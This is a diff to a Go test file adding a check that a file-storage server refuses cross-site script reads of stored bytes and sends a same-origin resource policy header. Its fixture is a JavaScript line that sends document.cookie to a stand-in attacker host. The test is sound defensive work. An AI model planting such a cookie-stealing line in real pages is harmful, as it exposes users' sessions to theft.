@@ -4,6 +4,7 @@ import (
 	"encoding/json"
 	"io"
 	"net/http"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -130,5 +131,70 @@ func TestStoredContentIsServedInert(t *testing.T) {
 	}
 	if code != http.StatusBadRequest || json.Unmarshal(b, &e) != nil || e.Details["field"] != "disposition" {
 		t.Errorf("an unknown disposition: %d %s, want 400 naming disposition", code, b)
+	}
+}
+
+// TestCrossSiteReadsOfStoredBytesAreRefused (issue 25): on the keyless loopback default, a
+// stored text/javascript body is not handed to another site's <script src>: every route
+// that serves stored bytes refuses a read marked Sec-Fetch-Site: cross-site with the
+// surface's 403, and a body carries Cross-Origin-Resource-Policy: same-origin for the
+// browsers that send no Fetch Metadata.
+func TestCrossSiteReadsOfStoredBytesAreRefused(t *testing.T) {
+	cfg := testConfig(t)
+	_, base := serveNode(t, cfg)
+	const js = "fetch('https://evil.example/?'+document.cookie)"
+	wb := base + "/v1/agents/a/workbenches/w"
+	code, _, b := send(t, http.MethodPut, wb+"/files/input/app.js", map[string]string{"Content-Type": "text/javascript"}, js)
+	if code != http.StatusCreated {
+		t.Fatalf("put: %d %s", code, b)
+	}
+	var put struct{ Generation uint64 }
+	if err := json.Unmarshal(b, &put); err != nil || put.Generation == 0 {
+		t.Fatalf("put answer %s", b)
+	}
+	if code, _, b := send(t, http.MethodPost, wb+"/snapshots", nil, `{"name":"s1"}`); code != http.StatusCreated {
+		t.Fatalf("snapshot: %d %s", code, b)
+	}
+	if code, _, b := send(t, http.MethodPut, base+"/v1/host/workspace/files/app.js", map[string]string{"Content-Type": "application/json"},
+		`{"content":"`+js+`"}`); code != http.StatusOK {
+		t.Fatalf("OpenWOP put: %d %s", code, b)
+	}
+	crossSite := map[string]string{"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Dest": "script", "Sec-Fetch-Mode": "no-cors"}
+	reads := []struct{ name, method, url string }{
+		{"a file", http.MethodGet, wb + "/files/input/app.js"},
+		{"a file's head", http.MethodHead, wb + "/files/input/app.js"},
+		{"a file inline", http.MethodGet, wb + "/files/input/app.js?disposition=inline"},
+		{"a file at a snapshot", http.MethodGet, wb + "/files/input/app.js?at_snapshot=s1"},
+		{"a file's generation", http.MethodGet, wb + "/files/input/app.js?generation=" + strconv.FormatUint(put.Generation, 10)},
+		{"a diff", http.MethodGet, wb + "/diff?path=input/app.js&from=snapshot:s1&to=live"},
+		{"a history", http.MethodGet, wb + "/history?path=input/app.js"},
+	}
+	for _, rd := range reads {
+		code, hd, b := send(t, rd.method, rd.url, nil, "")
+		if code != http.StatusOK || hd.Get("Cross-Origin-Resource-Policy") != "same-origin" {
+			t.Errorf("%s, same-site: %d, Cross-Origin-Resource-Policy %q: %.200s", rd.name, code, hd.Get("Cross-Origin-Resource-Policy"), b)
+		}
+		code, _, b = send(t, rd.method, rd.url, crossSite, "")
+		if rd.method == http.MethodHead {
+			if code != http.StatusForbidden {
+				t.Errorf("%s, cross-site: %d, want 403", rd.name, code)
+			}
+			continue
+		}
+		wantForbidden(t, rd.name+", cross-site", code, b, "Sec-Fetch-Site")
+	}
+	code, hd, b := send(t, http.MethodGet, base+"/v1/host/workspace/files/app.js", crossSite, "")
+	var env map[string]any
+	if code != http.StatusForbidden || json.Unmarshal(b, &env) != nil || env["error"] != "forbidden" || strings.Contains(string(b), js) {
+		t.Errorf("OpenWOP file, cross-site: %d %s, want 403 with OpenWOP's forbidden envelope", code, b)
+	}
+	if hd.Get("Cross-Origin-Resource-Policy") != "same-origin" {
+		t.Errorf("OpenWOP file: Cross-Origin-Resource-Policy %q", hd.Get("Cross-Origin-Resource-Policy"))
+	}
+	if code, _, b := send(t, http.MethodGet, wb+"/files/input/app.js", map[string]string{"Sec-Fetch-Site": "same-origin"}, ""); code != http.StatusOK || string(b) != js {
+		t.Errorf("a same-origin read: %d %q", code, b)
+	}
+	if code, _, _ := send(t, http.MethodGet, base+"/healthz", crossSite, ""); code != http.StatusOK {
+		t.Errorf("the probe, cross-site: %d, want 200", code)
 	}
 }
